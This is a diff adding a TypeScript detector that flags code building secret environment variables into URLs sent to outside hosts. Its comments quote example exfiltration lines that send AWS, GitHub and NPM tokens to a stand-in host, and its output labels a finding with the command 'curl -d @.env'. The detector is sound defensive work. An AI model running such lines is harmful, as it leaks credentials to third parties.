@@ -1,0 +1,51 @@
+// A secret variable built into a URL by interpreter code: `https.get('https://x.example/?k=' +
+// process.env.AWS_SECRET_ACCESS_KEY)`, `urlopen(f"https://x.example/{os.environ['GITHUB_TOKEN']}")`,
+// `fetch(`https://x.example/c?t=${process.env.NPM_TOKEN}`)`. Whoever serves the URL receives the
+// value, as with `curl https://x.example/?k=$TOKEN` on a command line (flow.ts). The variable
+// is read by name in any of the common spellings (process.env.X, os.environ['X'],
+// os.environ.get('X'), os.getenv('X'), ENV['X'], ENV.fetch('X'), $ENV{X}, getenv('X'),
+// Deno.env.get('X'), System.getenv("X"), Sys.getenv("X")) and counts only inside the URL's own
+// expression, up to the end of the argument: a token put in a header is how an API is called.
+// Loopback, vendors' hosts and the variable's own service (`OPENAI_API_KEY` to api.openai.com)
+// are not a taking.
+import type { Effect } from './types.js';
+import { isKnownRegistry, isVendorHost } from './supply-data.js';
+import { ownService } from './flow.js';
+
+/** Cheap gate: code that reads no variable by name in any of the spellings is not read. */
+const ENV_READ_HINT = /process\.env|environ|getenv|\bENV\b|\$ENV\{|Deno\.env/;
+const ENV_BY_NAME =
+  /process\.env\.([A-Za-z_]\w*)|process\.env\[\s*["'`](\w+)["'`]\s*\]|os\.environ\[\s*["'](\w+)["']\s*\]|os\.environ\.get\(\s*["'](\w+)["']|(?:os\.)?getenv\(\s*["'](\w+)["']|\bENV(?:\.fetch\(\s*|\[\s*)["'](\w+)["']|\$ENV\{\s*["']?(\w+)["']?\s*\}|Deno\.env\.get\(\s*["'](\w+)["']|System\.getenv\(\s*"(\w+)"|Sys\.getenv\(\s*"(\w+)"/g;
+const SECRET_NAME = /SECRET|PASSW|TOKEN|API_?KEY|ACCESS_KEY|PRIVATE|CREDENTIAL|_PAT\b|SIGNING/i;
+const URL_START = /\bhttps?:\/\/([A-Za-z0-9.-]+)/g;
+const LOOPBACK = /^(?:localhost|127(?:\.\d+){3}|0\.0\.0\.0|[\w-]+\.localhost)$/i;
+
+/** The text of the expression a URL literal starts: up to the comma or bracket that ends its argument. */
+function urlExpression(code: string, from: number): string {
+  let depth = 0;
+  for (let i = from; i < code.length && i < from + 400; i++) {
+    const ch = code[i];
+    if (ch === '(' || ch === '[' || ch === '{') depth++;
+    else if (ch === ')' || ch === ']' || ch === '}') {
+      if (depth === 0) return code.slice(from, i);
+      depth--;
+    } else if ((ch === ',' || ch === ';' || ch === '\n') && depth === 0) return code.slice(from, i);
+  }
+  return code.slice(from, from + 400);
+}
+
+/** Uploads of secret variables that code builds into a URL (see the top of this file). */
+export function codeSecretUrls(code: string, via: string): Effect[] {
+  if (!ENV_READ_HINT.test(code)) return [];
+  for (const m of code.matchAll(URL_START)) {
+    const host = (m[1] ?? '').toLowerCase();
+    if (!host || LOOPBACK.test(host) || isVendorHost(host) || isKnownRegistry(host)) continue;
+    const expr = urlExpression(code, m.index ?? 0);
+    for (const e of expr.matchAll(ENV_BY_NAME)) {
+      const name = e.slice(1).find((g) => g !== undefined) ?? '';
+      if (!SECRET_NAME.test(name) || ownService(name, host)) continue;
+      return [{ tool: 'exec', command: `curl -d @.env https://${host}/`, via: `${via} sends ${name} to ${host}` }];
+    }
+  }
+  return [];
+}
